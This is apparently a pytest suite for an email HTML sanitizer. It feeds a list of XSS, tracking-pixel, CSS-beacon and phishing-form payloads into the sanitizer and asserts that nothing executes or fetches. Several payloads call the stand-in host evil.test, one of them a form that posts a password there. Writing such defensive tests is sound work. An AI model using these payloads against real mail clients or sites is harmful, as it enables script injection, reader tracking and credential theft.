"""What an operator sees of a letter's HTML can neither do nor fetch anything."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from channels.email.safe_html import safe_html

WEAPONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://tracker.test/p.gif" width=1 height=1>',
    "<iframe src=https://evil.test></iframe>",
    '<form action="https://evil.test"><input name=password><button>Войти</button></form>',
    "<svg><animate onbegin=alert(1)></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.test">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/"><link rel=stylesheet href=//evil.test/x.css>',
    "<style>*{background:url(https://evil.test)}</style>",
    '<p style="background:url(https://evil.test/x)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9">x</p>',
    '<table background="https://evil.test/x"><tr><td>x',
    '<video poster="https://evil.test/x" src=//evil.test><source srcset="//evil.test"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if gte mso 9]><script>x</script><![endif]-->",
    '<object data="https://evil.test"><embed src="https://evil.test"></object>',
]
TAGS = {
    "html",
    "head",
    "body",
    "a",
    "b",
    "p",
    "div",
    "img",
    "table",
    "tbody",
    "tr",
    "td",
    "pre",
    "br",
    "span",
}
ATTRIBUTES = {"title", "alt", "style", "target", "rel", "href", "width", "height", "border"}
FETCHED = re.compile(r"//|position|url\(|script|data:", re.IGNORECASE)


def assert_harmless(html: str) -> None:
    """Read as a browser reads it: nothing but what is known to be harmless."""
    for node in LexborHTMLParser(html).css("*"):
        assert node.tag in TAGS
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES
            assert name in {"title", "alt"} or FETCHED.search(value or "") is None


@pytest.mark.parametrize("html", WEAPONS)
def test_nothing_in_it_runs_fetches_sends_or_covers(html: str) -> None:
    assert_harmless(safe_html(f"<p>до</p>{html}<p>после</p>"))


@given(
    st.lists(
        st.sampled_from([*WEAPONS, "<", ">", '"', "</", "<p>", "<!--", "-->", "<a href=", "текст"]),
        max_size=8,
    )
)
def test_pieces_of_weapons_make_none_together(pieces: list[str]) -> None:
    assert_harmless(safe_html("".join(pieces)))


def test_looks_stay_links_say_where_and_open_elsewhere() -> None:
    html = '<p style="color:red;font-weight:bold">Важно</p><ul><li>раз</li></ul><a href="https://ok.test/x">сюда</a>'
    shown = safe_html(html)
    assert 'style="color:red;font-weight:bold"' in shown
    assert "<ul><li>раз</li></ul>" in shown
    assert 'href="https://ok.test/x"' in shown
    assert 'target="_blank"' in shown
    assert "noopener" in shown


def test_pictures_of_the_letter_itself_stay_and_foreign_ones_leave_their_words() -> None:
    assert "data:image/png;base64,AAAA" in safe_html('<img src="data:image/png;base64,AAAA">')
    assert safe_html('<img src="https://x.test/a.png" alt="логотип">') == '<img alt="логотип">'
    assert "svg" not in safe_html('<img src="data:image/svg+xml;base64,AAAA">')


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "tags", ["<div>", "<blockquote>", "<b>", "<table><tr><td>", "<a href=https://x.test>"]
)
def test_forty_thousand_tags_are_shown_as_text_in_no_time(tags: str) -> None:
    assert "дно" in safe_html(tags * 40_000 + "дно")
